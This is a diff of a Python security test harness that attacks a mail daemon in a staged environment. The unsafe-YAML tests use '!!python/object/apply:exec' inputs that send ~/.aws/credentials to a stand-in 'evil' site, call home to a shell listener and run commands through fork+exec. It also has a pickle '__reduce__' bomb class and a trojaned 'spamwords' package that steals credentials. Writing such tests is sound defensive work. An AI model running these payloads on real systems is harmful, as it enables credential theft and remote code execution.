@@ -8,6 +8,7 @@ import os
 import pickle
 import smtplib
 
+from attackers import Bomb, CALL_HOME, FORK_AND_EXEC, THEFT
 import stage
 
 SPAMWORDS = {"__init__.py": '''"""Spam."""
@@ -38,14 +39,6 @@ def length(message):
     return str(len(message.as_bytes()))
 '''}
 POINTS = "[maild.filters]\ndigest = stamps:digest\nlength = stamps:length\n"
-
-
-class Bomb:
-    def __init__(self, *call):
-        self.call = call
-
-    def __reduce__(self):
-        return self.call[0], self.call[1:]
 
 
 class MailDaemon(stage.Service):
@@ -259,7 +252,7 @@ class MailDaemon(stage.Service):
         evil = self.site("evil")
         evil.page("*", b"")
         self.loads("!!python/object/apply:exec\n- " + json.dumps(
-            stage.THEFT.format(url=evil.url, file="~/.aws/credentials")))
+            THEFT.format(url=evil.url, file="~/.aws/credentials")))
         return evil.heard(stage.SECRET)
 
     @stage.attack("unsafe yaml")
@@ -272,14 +265,14 @@ class MailDaemon(stage.Service):
     def rules_call_home(self):
         with self.listener() as attacker:
             self.loads("!!python/object/apply:exec\n- " + json.dumps(
-                stage.CALL_HOME.format(port=self.port("shell"))))
+                CALL_HOME.format(port=self.port("shell"))))
             return self.happens(lambda: b"got-42" in attacker.heard)
 
     @stage.attack("fork+exec")
     def rules_fork_and_exec(self):
         marker = self.marker("fork")
         self.loads("!!python/object/apply:exec\n- " + json.dumps(
-            stage.FORK_AND_EXEC.format(line=f"id > {marker}")))
+            FORK_AND_EXEC.format(line=f"id > {marker}")))
         return self.happens(marker.exists)
 
     @stage.attack("SSRF")
@@ -338,7 +331,7 @@ class MailDaemon(stage.Service):
         evil = self.site("evil")
         evil.page("*", b"")
         self.halt()
-        self.install("spamwords", "3.0.1", {"__init__.py": stage.THEFT.format(
+        self.install("spamwords", "3.0.1", {"__init__.py": THEFT.format(
             url=evil.url, file="~/.aws/credentials")
             + SPAMWORDS["__init__.py"]})
         self.start()
